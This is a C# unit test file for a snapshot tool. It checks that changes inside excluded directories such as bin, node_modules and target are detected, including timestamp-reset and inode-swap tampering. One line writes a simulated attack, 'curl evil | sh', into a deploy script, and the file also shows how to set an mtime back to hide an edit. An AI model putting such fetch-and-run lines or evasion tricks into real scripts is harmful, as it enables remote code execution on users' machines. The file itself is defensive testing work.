using Nono.Core.Snapshots;
using Nono.Testing;

namespace Nono.Core.Tests.Snapshots;

/// <summary>
/// Excluded paths (bin, node_modules, target, ...) are not snapshotted, but each gets a metadata digest per snapshot:
/// a committed script under bin/ changed in place, or a payload dropped under a new lib/target/, shows as a changed
/// excluded path, while untouched excluded trees and their contents are neither reported nor read.
/// </summary>
public sealed class ExcludedTreeTests
{
    [Fact]
    public async Task CommittedScriptUnderBinAndPayloadUnderTarget_AreSeen_UntouchedTreesAreNotAndNothingExcludedIsRead()
    {
        CancellationToken ct = TestContext.Current.CancellationToken;
        using SnapshotFixture fx = new();
        Write(fx.Path("src", "a.txt"), "a\n");
        Write(fx.Path("bin", "deploy"), "#!/bin/sh\necho deploy\n");
        for (int i = 0; i < 50; i++)
        {
            Write(fx.Path("node_modules", $"pkg{i % 5}", $"f{i}.js"), new string('x', 1000));
        }

        await Git(fx.Root, "init", "-q");
        await Git(fx.Root, "add", "src/a.txt", "bin/deploy");
        await Git(fx.Root, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-qm", "c");
        SnapshotSession session = fx.Begin();
        SnapshotInfo baseline = await session.TakeSnapshotAsync("baseline", cancellationToken: ct);
        SnapshotInfo quiet = await session.TakeSnapshotAsync(cancellationToken: ct);

        File.AppendAllText(fx.Path("bin", "deploy"), "curl evil | sh\n");
        Write(fx.Path("lib", "target", "payload.sh"), "#!/bin/sh\n");
        SnapshotInfo attacked = await session.TakeSnapshotAsync("final", cancellationToken: ct);
        SnapshotDiff diff = await session.DiffAsync(0, 2, cancellationToken: ct);

        // Legitimate side: nothing changed, nothing reported; excluded contents are never read (only src/a.txt is).
        Assert.Empty(ExcludedTreeChange.Between(baseline.Excluded, quiet.Excluded));
        Assert.Equal(2, baseline.BytesRead);
        Assert.Equal([".git", "bin", "node_modules"], baseline.Excluded.Select(e => e.Path));
        Assert.Equal(56, baseline.Excluded.Single(e => e.Path == "node_modules").Entries); // the directory, 5 packages, 50 files
        // The attack: both changes are seen, at the level of the excluded path.
        Assert.Equal(
            [("bin", ChangeKind.Modified, 2L, 2L), ("lib/target", ChangeKind.Created, (long?)null, 2L)],
            ExcludedTreeChange.Between(baseline.Excluded, attacked.Excluded).Select(c => (c.Path, c.Kind, c.EntriesBefore, c.EntriesAfter)));
        Assert.All(ExcludedTreeChange.Between(baseline.Excluded, attacked.Excluded), c => Assert.Equal(fx.Root, c.Root));
        Assert.Equal(["lib"], diff.Changes.Select(c => c.Path)); // the snapshot itself still leaves them out
        // The digests are kept in the session index, so another process compares the same values.
        SnapshotInfo reloaded = fx.Store.OpenSession(session.Id).Info.Snapshots[0];
        Assert.Equal(baseline.Excluded, reloaded.Excluded);
    }

    [Fact]
    public async Task SameSizeRewriteWithMtimeSetBack_AndAFileSwappedIn_AreSeenThroughCtimeAndInode()
    {
        CancellationToken ct = TestContext.Current.CancellationToken;
        using SnapshotFixture fx = new();
        Write(fx.Path("node_modules", "a.js"), "module.exports = 1;\n");
        Write(fx.Path("sub", "obj", "b.o"), "object\n");
        SnapshotSession session = fx.Begin();
        SnapshotInfo baseline = await session.TakeSnapshotAsync(cancellationToken: ct);
        DateTime mtime = File.GetLastWriteTimeUtc(fx.Path("node_modules", "a.js"));

        // Same size, same mtime (set back): only ctime moves, which no unprivileged call can set back.
        Write(fx.Path("node_modules", "a.js"), "module.exports = 2;\n");
        File.SetLastWriteTimeUtc(fx.Path("node_modules", "a.js"), mtime);
        // Replaced by another file of the same size and times: a new inode.
        Write(fx.Path("sub", "obj", ".swap"), "OBJECT\n");
        File.SetLastWriteTimeUtc(fx.Path("sub", "obj", ".swap"), File.GetLastWriteTimeUtc(fx.Path("sub", "obj", "b.o")));
        File.Move(fx.Path("sub", "obj", ".swap"), fx.Path("sub", "obj", "b.o"), overwrite: true);
        SnapshotInfo after = await session.TakeSnapshotAsync(cancellationToken: ct);

        Assert.Equal(mtime, File.GetLastWriteTimeUtc(fx.Path("node_modules", "a.js")));
        Assert.Equal(
            [("node_modules", ChangeKind.Modified), ("sub/obj", ChangeKind.Modified)],
            ExcludedTreeChange.Between(baseline.Excluded, after.Excluded).Select(c => (c.Path, c.Kind)));
    }

    [Fact]
    public void Between_AnIncompleteWalk_IsReportedEvenWithEqualDigests_AndAVanishedTreeAsDeleted()
    {
        ExcludedTree Tree(string path, bool complete = true) => new() { Root = "/w", Path = path, Raw = path, Digest = "d", Entries = 3, Complete = complete };

        IReadOnlyList<ExcludedTreeChange> changes = ExcludedTreeChange.Between([Tree("bin"), Tree("obj"), Tree("target")], [Tree("bin"), Tree("obj", complete: false)]);

        Assert.Equal([("obj", ChangeKind.Modified, false), ("target", ChangeKind.Deleted, true)], changes.Select(c => (c.Path, c.Kind, c.Complete)));
    }

    private static void Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!); // every path here has a parent
        File.WriteAllText(path, text);
    }

    private static async Task Git(string directory, params string[] args)
    {
        ProcessResult result = await ProcessRunner.RunAsync("git", ["-C", directory, .. args], cancellationToken: TestContext.Current.CancellationToken);
        Assert.True(result.ExitCode == 0, result.ToString());
    }
}
